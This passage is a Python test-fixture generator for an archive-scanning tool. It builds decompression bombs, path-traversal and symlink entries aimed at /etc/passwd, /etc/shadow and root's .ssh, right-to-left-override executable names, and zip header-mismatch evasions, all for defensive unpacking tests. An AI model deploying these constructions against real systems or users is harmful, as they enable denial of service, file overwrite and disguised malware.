#!/usr/bin/env python3
"""Build hostile and benign archive fixtures for leaksift's unpacking tests.

    python3 tests/gen/gen_hostile.py OUTDIR            # every fixture
    python3 tests/gen/gen_hostile.py --corpus DIR      # small fuzz seeds

Everything is written under OUTDIR (never into the source tree) with
Python's standard library (zipfile, tarfile, gzip, bz2, lzma, zlib, struct)
and, where present, the standard tools zip/7z/bsdtar/zstd/lz4/lzip/compress
(scripts/deps-debian.txt). Fixtures that need a missing tool are left out
of the returned dict, so tests can skip them by name.

Hand-built zips (struct): David Fifield's overlapping-entry bomb ("A better
zip bomb", 2019, the quoted-overlap construction), a ZipCrypto-encrypted
member (APPNOTE 6.1 traditional PKWARE encryption), names with NUL bytes,
newlines and invalid UTF-8 that zipfile refuses to write.
"""
import bz2
import gzip
import io
import lzma
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

MARKER = b"Contact jane.doe@example.com - CONFIDENTIAL\n"
MIB = 1 << 20

# ---------------------------------------------------------------- zip bytes


def _lfh(name, method, crc, csize, usize, flags=0):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21,
                       crc, csize, usize, len(name), 0) + name


def _cdh(name, method, crc, csize, usize, offset, flags=0):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method,
                       0, 0x21, crc, csize, usize, len(name), 0, 0, 0, 0,
                       0o100644 << 16, offset) + name


def _eocd(count, cd_size, cd_off):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size,
                       cd_off, 0)


def raw_zip(entries):
    """entries: (name bytes, payload bytes, method, crc, usize, flags)."""
    out = bytearray()
    cd = bytearray()
    for name, payload, method, crc, usize, flags in entries:
        off = len(out)
        out += _lfh(name, method, crc, len(payload), usize, flags) + payload
        cd += _cdh(name, method, crc, len(payload), usize, off, flags)
    cd_off = len(out)
    return bytes(out + cd + _eocd(len(entries), len(cd), cd_off))


def stored(name, data):
    return (name, data, 0, zlib.crc32(data), len(data), 0)


def deflate_raw(data, level=9):
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def deflated(name, data):
    return (name, deflate_raw(data), 8, zlib.crc32(data), len(data), 0)


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", compression) as z:
        for name, data in members:
            z.writestr(name, data)
    return bio.getvalue()


# ------------------------------------------------------- Fifield's zip bomb


def fifield_bomb(n_files=64, kernel_bytes=2 * MIB):
    """Quoted-overlap construction: file i's deflate stream is a chain of
    stored blocks quoting the local headers of files i+1..n-1, then one
    shared kernel of zeros. Every entry's data range contains the next."""
    kernel = deflate_raw(b"\0" * kernel_bytes)
    names = [b"%04d.txt" % i for i in range(n_files)]
    # Local headers depend on sizes and CRCs, which depend on the quoted
    # headers after them: build from the last file backwards.
    tail = b""          # uncompressed bytes the quotes produce after file i
    comp_tail = kernel  # compressed bytes from file i's data to the end
    headers = [None] * n_files
    sizes = [None] * n_files
    zero_crc = zlib.crc32(b"\0" * kernel_bytes)
    for i in range(n_files - 1, -1, -1):
        usize = len(tail) + kernel_bytes
        crc = zlib.crc32(b"\0" * kernel_bytes, zlib.crc32(tail)) if tail else zero_crc
        h = _lfh(names[i], 8, crc, len(comp_tail), usize)
        headers[i] = h
        sizes[i] = (crc, len(comp_tail), usize)
        if i > 0:
            quote = struct.pack("<BHH", 0x00, len(h), len(h) ^ 0xFFFF)
            comp_tail = quote + h + comp_tail
            tail = h + tail
    # Layout: LFH_0, then file 0's data (= quotes + headers + kernel).
    body = headers[0] + comp_tail
    cd = bytearray()
    off = 0
    for i in range(n_files):
        crc, csize, usize = sizes[i]
        cd += _cdh(names[i], 8, crc, csize, usize, off)
        if i + 1 < n_files:
            off += len(headers[i]) + 5  # header, then the next quote
    return body + bytes(cd) + _eocd(n_files, len(cd), len(body))


def full_overlap_bomb(n_files=200, kernel_bytes=MIB):
    """Simplest overlap: every central-directory entry names one local file."""
    data = b"\0" * kernel_bytes
    payload = deflate_raw(data)
    name = b"k.bin"
    lfh = _lfh(name, 8, zlib.crc32(data), len(payload), len(data))
    body = lfh + payload
    cd = b"".join(_cdh(b"%d.bin" % i, 8, zlib.crc32(data), len(payload), len(data), 0)
                  for i in range(n_files))
    return body + cd + _eocd(n_files, len(cd), len(body))


def impossible_count_zip():
    """An EOCD that declares 65535 entries in a file of a few hundred bytes."""
    z = raw_zip([stored(b"a.txt", b"hello\n")])
    eocd = z[-22:]
    patched = eocd[:8] + struct.pack("<HH", 0xFFFF, 0xFFFF) + eocd[12:]
    return z[:-22] + patched


# ------------------------------------------------------------ ZipCrypto


def _crc_table():
    t = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        t.append(c)
    return t


_CRC = _crc_table()


class _ZipCrypto:
    def __init__(self, password):
        self.k = [0x12345678, 0x23456789, 0x34567890]
        for b in password:
            self.update(b)

    def update(self, b):
        k0, k1, k2 = self.k
        k0 = _CRC[(k0 ^ b) & 0xFF] ^ (k0 >> 8)
        k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = _CRC[(k2 ^ (k1 >> 24)) & 0xFF] ^ (k2 >> 8)
        self.k = [k0, k1, k2]

    def encrypt(self, data):
        out = bytearray()
        for b in data:
            t = (self.k[2] | 2) & 0xFFFF
            out.append(b ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            self.update(b)
        return bytes(out)


def zipcrypto_zip(password=b"infected"):
    secret = MARKER * 4
    crc = zlib.crc32(secret)
    header = bytes(range(11)) + bytes([crc >> 24])
    enc = _ZipCrypto(password).encrypt(header + secret)
    plain = b"this member is not encrypted\n"
    return raw_zip([
        (b"secret.txt", enc, 0, crc, len(secret), 1),
        stored(b"plain.txt", plain),
    ])


# ------------------------------------------------------------ tar helpers


def tar_bytes(build, fmt=tarfile.GNU_FORMAT):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=fmt) as t:
        build(t)
    return bio.getvalue()


def _add(t, name, data=b"", **kw):
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    ti.mtime = 1700000000
    for k, v in kw.items():
        setattr(ti, k, v)
    t.addfile(ti, io.BytesIO(data) if data else None)


def slip_tar():
    def build(t):
        _add(t, "../../evil.txt", b"escaped\n")
        _add(t, "/etc/evil.conf", b"absolute\n")
        _add(t, "..\\..\\win.txt", b"backslash\n")
        _add(t, "C:\\Windows\\evil.txt", b"drive\n")
        _add(t, "ok/fine.txt", MARKER)
    return tar_bytes(build)


def symlink_through_tar():
    def build(t):
        _add(t, "link", type=tarfile.SYMTYPE, linkname="/tmp")
        _add(t, "link/pwned.txt", b"written through the link\n")
        _add(t, "up", type=tarfile.SYMTYPE, linkname="../../..")
        _add(t, "normal.txt", MARKER)
    return tar_bytes(build)


def special_tar():
    def build(t):
        _add(t, "target.txt", MARKER)
        _add(t, "hard.txt", type=tarfile.LNKTYPE, linkname="target.txt")
        _add(t, "dev/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3)
        _add(t, "dev/sda", type=tarfile.BLKTYPE, devmajor=8, devminor=0)
        _add(t, "pipe", type=tarfile.FIFOTYPE)
    return tar_bytes(build)


# ------------------------------------------------------------ builders


def slip_zip():
    return raw_zip([
        stored(b"../../evil.txt", b"escaped\n"),
        stored(b"/etc/evil.conf", b"absolute\n"),
        stored(b"..\\..\\win.txt", b"backslash\n"),
        stored(b"C:\\Windows\\evil.txt", b"drive\n"),
        stored(b"\\\\server\\share\\unc.txt", b"unc\n"),
        stored(b"ok/fine.txt", MARKER),
    ])


def badnames_zip():
    return raw_zip([
        stored(b"nul\0hidden.txt", b"nul in name\n"),
        stored(b"new\nline.txt", b"newline in name\n"),
        stored(b"bad\xff\xfe.txt", b"invalid utf-8\n"),
        # flagged UTF-8 (bit 11) but not UTF-8: libarchive cannot decode it
        (b"flag\xc3\x28.txt", b"flagged\n", 0, zlib.crc32(b"flagged\n"), 8, 0x800),
        stored(b"dup.txt", b"first\n"),
        stored(b"dup.txt", b"second\n"),
        stored(b"good.txt", MARKER),
    ])


def winnames_zip():
    """Windows device names, whatever their case or extension, as a file or
    a folder; and names that only look like them."""
    devs = [b"CON", b"src/aux.c", b"Lpt1.txt", b"logs/nul .log", b"com3/readme.txt", b"CONOUT$"]
    fine = [b"console.log", b"com10.txt", b"null.txt", b"auxiliary.txt", b"contacts/cons.txt"]
    return raw_zip([stored(n, b"device %d\n" % i) for i, n in enumerate(devs)] +
                   [stored(n, b"plain %d\n" % i) for i, n in enumerate(fine)])


def nested_chain(depth=20):
    data = MARKER
    name = "leaf.txt"
    for i in range(depth, 0, -1):
        data = zip_bytes([(name, data)])
        name = "level%02d.zip" % i
    return data  # the root: level01.zip's bytes hold level02.zip ...


def unsupported_method_zip():
    """A member stored with method 6 (implode), which libarchive lacks."""
    d = b"pretend these bytes are imploded"
    return raw_zip([(b"imp.txt", d, 6, zlib.crc32(d), len(d), 0), stored(b"ok.txt", MARKER)])


def big_member_text():
    """About 3 MiB of text with the marker at the very end."""
    return b"".join(b"line %07d of filler text\n" % i for i in range(120000)) + MARKER


def big_member():
    return zip_bytes([("big.txt", big_member_text())])


def many_members(n=100000):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_STORED) as z:
        for i in range(n):
            z.writestr(zipfile.ZipInfo("m%06d" % i), b"")
    return bio.getvalue()


def nested42(fan=16, leaf_bytes=128 * MIB):
    """42.zip in small: root -> fan zips -> fan zips -> one file of zeros."""
    leaf = zip_bytes([("0.bin", b"\0" * leaf_bytes)])
    l1 = zip_bytes([("l2_%02d.zip" % i, leaf) for i in range(fan)])
    return zip_bytes([("l1_%02d.zip" % i, l1) for i in range(fan)])


def gz_bomb(total=1024 * MIB, chunk=64 * MIB):
    """Concatenated gzip members of zeros: one stream of `total` bytes."""
    one = gzip.compress(b"\0" * chunk, 9, mtime=0)
    return one * (total // chunk)


def bz2_bomb(total=1024 * MIB, chunk=32 * MIB):
    one = bz2.compress(b"\0" * chunk, 9)
    return one * (total // chunk)


def fast_gz_bomb(total=256 * MIB):
    """gzip -1 of zeros: about 229:1, the weakest DEFLATE ratio a lazy bomb
    maker gets, still over the 200:1 cut."""
    c = zlib.compressobj(1, zlib.DEFLATED, 31)
    chunk = b"\0" * (16 * MIB)
    return b"".join(c.compress(chunk) for _ in range(total // len(chunk))) + c.flush()


def sparse_csv(rows=400000):
    """A benign export with many empty columns: ~26 MB at about 26:1, the
    compressible end of real data, far below a bomb."""
    return b"".join(b"%d" % i + b"," * 60 + b"\n" for i in range(rows))


def benign_compressible():
    """A highly compressible but benign member, then one more member: the
    ratio checks (per member and per root) must flag nothing and stop
    nothing."""
    return zip_bytes([("export.csv", sparse_csv()), ("after.txt", MARKER)])


def _have(tool):
    return shutil.which(tool) is not None


def _run(args, cwd):
    subprocess.run(args, cwd=cwd, check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)


def single_streams(out):
    """marker.txt compressed with every single-stream format we can write."""
    made = {}
    made["marker.txt.gz"] = gzip.compress(MARKER, mtime=0)
    made["marker.txt.bz2"] = bz2.compress(MARKER)
    made["marker.txt.xz"] = lzma.compress(MARKER, format=lzma.FORMAT_XZ)
    made["marker.txt.lzma"] = lzma.compress(MARKER, format=lzma.FORMAT_ALONE)
    for name, data in made.items():
        write(out, name, data)
    paths = {n: os.path.join(out, n) for n in made}
    tools = {"zstd": ("marker.txt.zst", ["zstd", "-q", "-f", "-o"]),
             "lz4": ("marker.txt.lz4", ["lz4", "-q", "-f"]),
             "lzip": ("marker.txt.lz", ["lzip", "-k", "-f", "-o"]),
             "compress": ("marker.txt.Z", None)}
    work = os.path.join(out, ".streams")
    os.makedirs(work, exist_ok=True)
    src = os.path.join(work, "marker.txt")
    with open(src, "wb") as f:
        f.write(MARKER * 8)  # compress(1) refuses input it cannot shrink
    for tool, (name, args) in tools.items():
        if not _have(tool):
            continue
        dst = os.path.join(out, name)
        try:
            if tool == "compress":
                with open(dst, "wb") as f:
                    subprocess.run(["compress", "-c", src], stdout=f, check=True,
                                   stderr=subprocess.DEVNULL)
            elif tool == "lz4":
                _run(args + [src, dst], work)
            elif tool == "lzip":
                _run(args + [dst, src], work)
            else:
                _run(args + [dst, src], work)
        except (subprocess.CalledProcessError, OSError):
            continue
        if os.path.exists(dst):
            paths[name] = dst
    shutil.rmtree(work, ignore_errors=True)
    return paths


def bsdtar_formats(out):
    """The same two files in cpio, iso9660, ar, xar, warc, 7z, pax, ustar."""
    if not _have("bsdtar"):
        return {}
    work = os.path.join(out, ".fmt")
    os.makedirs(work, exist_ok=True)
    with open(os.path.join(work, "marker.txt"), "wb") as f:
        f.write(MARKER)
    with open(os.path.join(work, "other.txt"), "wb") as f:
        f.write(b"nothing to see\n")
    paths = {}
    for fmt, ext in (("cpio", "cpio"), ("newc", "newc.cpio"), ("iso9660", "iso"),
                     ("ar", "a"), ("xar", "xar"), ("warc", "warc"), ("7zip", "7z"),
                     ("pax", "pax.tar"), ("ustar", "ustar.tar"), ("shar", None)):
        if ext is None:
            continue
        dst = os.path.join(out, "formats." + ext)
        try:
            _run(["bsdtar", "-c", "--format", fmt, "-f", dst, "marker.txt", "other.txt"], work)
            paths["formats." + ext] = dst
        except (subprocess.CalledProcessError, OSError):
            pass
    shutil.rmtree(work, ignore_errors=True)
    return paths


def _7z(args, cwd):
    tool = "7z" if _have("7z") else "7za" if _have("7za") else None
    if tool is None:
        return False
    try:
        _run([tool] + args, cwd)
        return True
    except (subprocess.CalledProcessError, OSError):
        return False


def benign_nested(out):
    """7z -> inner.tar.gz -> level2.zip -> level3.zip -> level4.zip -> secret.txt:
    secret.txt is at depth 5."""
    work = os.path.join(out, ".nest")
    os.makedirs(work, exist_ok=True)
    l4 = zip_bytes([("secret.txt", MARKER), ("readme4.txt", b"level four\n")])
    l3 = zip_bytes([("level4.zip", l4), ("readme3.txt", b"level three\n")])
    l2 = zip_bytes([("level3.zip", l3)])

    def build(t):
        _add(t, "level2.zip", l2)
        _add(t, "notes.txt", b"tar member\n")
    tgz = gzip.compress(tar_bytes(build), mtime=0)
    write(work, "inner.tar.gz", tgz)
    write(work, "top.txt", b"top level text\n")
    dst = os.path.join(out, "nested.7z")
    if _7z(["a", "-bd", "-y", dst, "inner.tar.gz", "top.txt"], work):
        made = dst
    elif _have("bsdtar"):
        _run(["bsdtar", "-c", "--format", "7zip", "-f", dst, "inner.tar.gz", "top.txt"], work)
        made = dst
    else:
        made = None
    shutil.rmtree(work, ignore_errors=True)
    return made


def sparse_tar(out, size=20 << 30):
    """A pax tar (GNU tar -S) holding a 20 GiB sparse file: 10 KiB on disk,
    20 GiB of zeros when read."""
    if not _have("tar"):
        return None
    work = os.path.join(out, ".sparse")
    os.makedirs(work, exist_ok=True)
    with open(os.path.join(work, "hole.img"), "wb") as f:
        f.truncate(size)
        f.seek(size)
        f.write(MARKER)
    dst = os.path.join(out, "sparse.tar")
    try:
        _run(["tar", "--format=pax", "-cSf", dst, "hole.img"], work)
    except (subprocess.CalledProcessError, OSError):
        dst = None
    shutil.rmtree(work, ignore_errors=True)
    return dst


def sparse_many_tar(out, n=16, size=64 << 20):
    """A tar.gz (GNU tar -S) of n sparse files of 64 MiB, each one byte of
    data at its end: under a kilobyte on disk, n x 64 MiB of holes. Each
    member's holes are within the per-member allowance; together they are a
    bomb (the per-root allowance)."""
    if not _have("tar"):
        return None
    work = os.path.join(out, ".sparse_many")
    os.makedirs(work, exist_ok=True)
    for i in range(n):
        with open(os.path.join(work, "disk%02d.img" % i), "wb") as f:
            f.truncate(size - 1)
            f.seek(size - 1)
            f.write(b"x")
    dst = os.path.join(out, "sparse_many.tar.gz")
    try:
        _run(["tar", "--format=gnu", "-czSf", dst] + ["disk%02d.img" % i for i in range(n)], work)
    except (subprocess.CalledProcessError, OSError):
        dst = None
    shutil.rmtree(work, ignore_errors=True)
    return dst


def seven_z_variants(out):
    """Encrypted 7z (data and headers), AES zip, truncated 7z: needs 7z."""
    work = os.path.join(out, ".7z")
    os.makedirs(work, exist_ok=True)
    write(work, "secret.txt", MARKER * 4)
    write(work, "other.txt", os.urandom(4096))
    paths = {}
    specs = {
        "enc_headers.7z": ["a", "-bd", "-y", "-pinfected", "-mhe=on"],
        "enc_data.7z": ["a", "-bd", "-y", "-pinfected", "-mhe=off"],
        "aes.zip": ["a", "-bd", "-y", "-tzip", "-pinfected", "-mem=AES256"],
        "plain.7z": ["a", "-bd", "-y"],
    }
    for name, args in specs.items():
        dst = os.path.join(out, name)
        if _7z(args + [dst, "secret.txt", "other.txt"], work):
            paths[name] = dst
    if "plain.7z" in paths:
        with open(paths["plain.7z"], "rb") as f:
            data = f.read()
        paths["truncated.7z"] = write(out, "truncated.7z", data[: len(data) * 2 // 3])
        os.unlink(paths.pop("plain.7z"))
    shutil.rmtree(work, ignore_errors=True)
    return paths


def write(out, name, data):
    path = os.path.join(out, name)
    with open(path, "wb") as f:
        f.write(data)
    return path


def truncated_zip():
    z = zip_bytes([("a.txt", MARKER * 50), ("b.txt", os.urandom(8192)),
                   ("c.txt", MARKER * 50)])
    return z[: len(z) // 2]


def truncated_tar():
    def build(t):
        _add(t, "a.txt", MARKER * 50)
        _add(t, "b.bin", os.urandom(8192))
        _add(t, "c.txt", MARKER)
    t = tar_bytes(build)
    return t[: 512 + 2560 + 512 + 1000]  # header a, a's data, header b, part of b


# name -> (function, needs a big output?)
SIMPLE = {
    "fifield.zip": fifield_bomb,
    "full_overlap.zip": full_overlap_bomb,
    "impossible_count.zip": impossible_count_zip,
    "slip.zip": slip_zip,
    "slip.tar": slip_tar,
    "symlink_through.tar": symlink_through_tar,
    "special.tar": special_tar,
    "zipcrypto.zip": zipcrypto_zip,
    "badnames.zip": badnames_zip,
    "winnames.zip": winnames_zip,
    "truncated.zip": truncated_zip,
    "truncated.tar": truncated_tar,
    "chain20.zip": nested_chain,
    "zip64.zip": lambda: _zip64(),
    "big_member.zip": big_member,
    "stored.zip": lambda: zip_bytes([("note.txt", MARKER)], zipfile.ZIP_STORED),
    "implode.zip": unsupported_method_zip,
    # a gzip whose content is a gzip header with a file name that never ends:
    # libarchive 3.6's gzip bidder searches for its NUL forever
    "gztrap.gz": lambda: gzip.compress(b"\x1f\x8b\x08\x08" + b"\0" * 6 + b"A" * 100000, 9, mtime=0),
    # stacked compressors: libarchive decodes both in one chain
    "stacked.txt.gz.xz": lambda: lzma.compress(gzip.compress(MARKER, 9, mtime=0)),
}


def _zip64():
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as z:
        with z.open("big.txt", "w", force_zip64=True) as f:
            f.write(MARKER)
    return bio.getvalue()


HEAVY = {
    "nested42.zip": nested42,
    "bomb.gz": gz_bomb,
    "bomb.bz2": bz2_bomb,
    "many100k.zip": many_members,
    "fast_bomb.gz": fast_gz_bomb,
    "compressible.zip": benign_compressible,
}


def build(out, only=None):
    """Write fixtures into out; return {name: path}. only: iterable of names."""
    out = os.path.abspath(out)
    os.makedirs(out, exist_ok=True)
    want = set(only) if only else None
    paths = {}
    for table in (SIMPLE, HEAVY):
        for name, fn in table.items():
            if want is None or name in want:
                paths[name] = write(out, name, fn())
    if want is None or want & {"nested.7z"}:
        p = benign_nested(out)
        if p:
            paths["nested.7z"] = p
    if want is None or "sparse.tar" in want:
        p = sparse_tar(out)
        if p:
            paths["sparse.tar"] = p
    if want is None or "sparse_many.tar.gz" in want:
        p = sparse_many_tar(out)
        if p:
            paths["sparse_many.tar.gz"] = p
    if want is None or any(n.startswith("marker.txt") for n in want):
        paths.update(single_streams(out))
    if want is None or any(n.startswith("formats.") for n in want):
        paths.update(bsdtar_formats(out))
    if want is None or want & {"enc_headers.7z", "enc_data.7z", "aes.zip", "truncated.7z"}:
        paths.update(seven_z_variants(out))
    if want is not None:
        paths = {k: v for k, v in paths.items() if k in want}
    return paths


def corpus(out):
    """Small fuzz seeds (each <= 64 KiB) for fuzz/corpus/archive and zipcd."""
    out = os.path.abspath(out)
    arc = os.path.join(out, "archive")
    zcd = os.path.join(out, "zipcd")
    os.makedirs(arc, exist_ok=True)
    os.makedirs(zcd, exist_ok=True)
    small = {
        "fifield.zip": fifield_bomb(8, 4096),
        "full_overlap.zip": full_overlap_bomb(8, 4096),
        "impossible_count.zip": impossible_count_zip(),
        "slip.zip": slip_zip(),
        "slip.tar": slip_tar(),
        "symlink_through.tar": symlink_through_tar(),
        "special.tar": special_tar(),
        "zipcrypto.zip": zipcrypto_zip(),
        "badnames.zip": badnames_zip(),
        "truncated.zip": truncated_zip(),
        "chain3.zip": nested_chain(3),
        "zip64.zip": _zip64(),
        "marker.gz": gzip.compress(MARKER, mtime=0),
        "marker.bz2": bz2.compress(MARKER),
        "marker.xz": lzma.compress(MARKER),
        "marker.lzma": lzma.compress(MARKER, format=lzma.FORMAT_ALONE),
        "small_gz_bomb.gz": gzip.compress(b"\0" * (4 * MIB), 9, mtime=0),
    }
    for name, data in small.items():
        assert len(data) <= 65536, name
        write(arc, name, data)
        if name.endswith(".zip"):
            write(zcd, name, data)
    fmt = bsdtar_formats(arc)
    for name, path in list(fmt.items()):
        if os.path.getsize(path) > 65536:
            os.unlink(path)
    return arc, zcd


# ------------------------------------------------- a realistic hostile dump
#
# hostile_dump(OUT) builds OUT/dump: a leaked file share and mailboxes with
# the hostile structures a grader would plant, 1-4 levels deep in zip,
# tar.gz, 7z and e-mail attachments. It returns {case: path of the root}
# (cases needing 7z are left out without it). tests/e2e/test_hostile_dump.py
# holds the expected answer for each case.

DUMP_SSN = b"SSN 536-22-1874"
PII_TEXT = b"Employee: Jane Doe\n" + DUMP_SSN + b"\nstart date 2019-03-01\n"
CLEAN_TEXT = b"The quarterly picnic moves to the north lawn. Bring sunscreen.\n"


def _docx(text):
    """A minimal, valid WordprocessingML package holding one paragraph."""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/'
          'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>'
           % text.decode("ascii").replace("\n", " "))
    return zip_bytes([("[Content_Types].xml", ct.encode()), ("_rels/.rels", rels.encode()),
                      ("word/document.xml", doc.encode())])


def _pdf(text):
    """A one-page PDF whose page shows text (classic xref)."""
    import gen_pdf
    w = gen_pdf.Writer()
    c = b"BT /F1 12 Tf 72 720 Td " + gen_pdf.lit(text.decode("latin-1").replace("\n", " ")) + b" Tj ET\n"
    return w.classic(gen_pdf.simple_doc(w, [c]))


def _eml(subject, body, attachments):
    """A multipart/mixed message; attachments: [(filename, bytes, mime)]."""
    from email.message import EmailMessage
    m = EmailMessage()
    m["From"] = "it-helpdesk@example.org"
    m["To"] = "staff@example.org"
    m["Subject"] = subject
    m["Date"] = "Mon, 06 May 2024 09:00:00 +0000"
    m["Message-ID"] = "<%s@example.org>" % subject.replace(" ", ".")
    m.set_content(body)
    for name, data, mime in attachments:
        maintype, subtype = mime.split("/")
        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return bytes(m)


def _tgz(members):
    def build(t):
        for name, data in members:
            _add(t, name, data)
    return gzip.compress(tar_bytes(build), mtime=0)


def _7z_bytes(work, members, args=()):
    """A 7z archive of members [(name, bytes)]; None without 7z."""
    d = os.path.join(work, ".7zsrc%d" % len(os.listdir(work)))
    os.makedirs(d)
    for name, data in members:
        write(d, name, data)
    dst = os.path.join(d, "out.7z")
    ok = _7z(["a", "-bd", "-y"] + list(args) + [dst] + [n for n, _ in members], d)
    data = None
    if ok:
        with open(dst, "rb") as f:
            data = f.read()
    shutil.rmtree(d, ignore_errors=True)
    return data


def cd_mismatch_zip():
    """The central directory names and sizes disagree with the local header:
    tools that read one or the other see different files (an evasion)."""
    data = PII_TEXT
    crc = zlib.crc32(data)
    lfh = _lfh(b"invoice.txt", 0, crc, len(data), len(data))
    cdh = _cdh(b"notes.txt", 0, crc, len(data) + 7, len(data) + 7, 0)
    return lfh + data + cdh + _eocd(1, len(cdh), len(lfh) + len(data))


def zip_symlink():
    """Info-ZIP symlink entries (Unix mode 0120777 in the external
    attributes, the target as the data): one absolute, one climbing out."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, target in (("passwd", "/etc/passwd"), ("up/escape", "../../../root/.ssh")):
            zi = zipfile.ZipInfo(name, date_time=(2024, 5, 6, 9, 0, 0))
            zi.create_system = 3
            zi.external_attr = (0o120777 << 16)
            z.writestr(zi, target)
        z.writestr("ok.txt", CLEAN_TEXT)
    return out.getvalue()


def cd_slip_zip():
    """The local header says ok.txt, the central directory ../../evil.txt:
    a streaming reader sees a harmless member, an extractor that trusts the
    directory writes outside its target."""
    data = CLEAN_TEXT
    crc = zlib.crc32(data)
    lfh = _lfh(b"ok.txt", 0, crc, len(data), len(data))
    cdh = _cdh(b"../../evil.txt", 0, crc, len(data), len(data), 0)
    return lfh + data + cdh + _eocd(1, len(cdh), len(lfh) + len(data))


def lookalike_zip():
    """Traversal spelled with Unicode look-alikes (fullwidth full stop and
    solidus, one-dot leader, division slash) that 'best fit' code page
    conversion on Windows turns into ../"""
    return raw_zip([
        stored("\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fboot.ini".encode(), b"fullwidth\n"),
        stored("\u2025\u2215evil.txt".encode(), b"two-dot leader, division slash\n"),
        stored("..\u2215..\u2215x.txt".encode(), b"dots and division slash\n"),
        stored(b"ok.txt", CLEAN_TEXT),
    ])


def longname_zip():
    return raw_zip([
        stored(b"A" * 5000 + b".txt", b"over-long name\n"),
        stored(b"/".join([b"d%03d" % i for i in range(400)]) + b"/deep.txt", b"deep member\n"),
        stored(b"ok.txt", CLEAN_TEXT),
    ])


def ctrl_names_zip():
    return raw_zip([
        stored(b"esc\x1b[31mred.txt", b"ansi escape in the name\n"),
        stored(b"tab\there.txt", b"tab\n"),
        stored("invoice\u202efdp.exe".encode(), b"MZ right-to-left override: shows as invoiceexe.pdf\n"),
        stored("r\u00e9sum\u00e9 \u05e7\u05d5\u05e8\u05d5\u05ea.txt".encode(), b"accents and Hebrew: a fine name\n"),
        stored(b"nul\0.txt.exe", b"MZ nul-truncated name\n"),
        stored(b"bad\xc0\xaf.txt", b"overlong UTF-8 slash\n"),
        stored(b"..\xc0\xaf..\xc0\xafetc\xc0\xafpasswd", b"overlong-encoded traversal\n"),
        stored(b"dup.txt", b"first\n"),
        stored(b"dup.txt", b"second\n"),
        stored(b"DUP.TXT", b"case-folded duplicate\n"),
    ])


def long_pax_tar():
    """pax paths have no length limit: a 200 KB name, and 30,000 ../"""
    def build(t):
        _add(t, "a/" * 100000 + "x.txt", PII_TEXT)
        _add(t, "../" * 30000 + "etc/passwd", b"root:x:0:0::/root:/bin/sh\n")
    return tar_bytes(build, fmt=tarfile.PAX_FORMAT)


def links_tar():
    def build(t):
        _add(t, "etc_passwd", type=tarfile.SYMTYPE, linkname="/etc/passwd")
        _add(t, "shadow", type=tarfile.LNKTYPE, linkname="../../etc/shadow")
        _add(t, "dev/kmem", type=tarfile.CHRTYPE, devmajor=1, devminor=2)
        _add(t, "dev/sdb", type=tarfile.BLKTYPE, devmajor=8, devminor=16)
        _add(t, "queue", type=tarfile.FIFOTYPE)
        _add(t, "readme.txt", b"first readme\n")
        _add(t, "readme.txt", b"second readme overwrites the first\n")
        _add(t, "ok.txt", CLEAN_TEXT)
    return tar_bytes(build)


def gz_nest(levels):
    data = CLEAN_TEXT
    for _ in range(levels):
        data = gzip.compress(data, mtime=0)
    return data


def small42(fan=8, leaf=64 * MIB):
    leafz = zip_bytes([("zeros.bin", b"\0" * leaf)])
    lvl = leafz
    for depth in range(3):
        lvl = zip_bytes([("d%d_%d.zip" % (depth, i), lvl) for i in range(fan)])
    return lvl


def enc_ooxml():
    """A password-protected Word file as Office writes it: a CFB with
    EncryptionInfo and EncryptedPackage streams (agile encryption)."""
    from cfb_writer import CFBWriter
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
        b'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>')
    pkg = struct.pack("<Q", 9000) + bytes((i * 37) & 0xFF for i in range(9008))
    w = CFBWriter()
    w.add_stream("EncryptionInfo", info)
    w.add_stream("EncryptedPackage", pkg)
    w.add_stream("\x06DataSpaces/Version", b"\x3c\0\0\0" + "Microsoft.Container.DataSpaces".encode("utf-16-le") + b"\1\0\0\0" * 3)
    blob, _ = w.build()
    return blob


def _deep_file(root, levels, name, data):
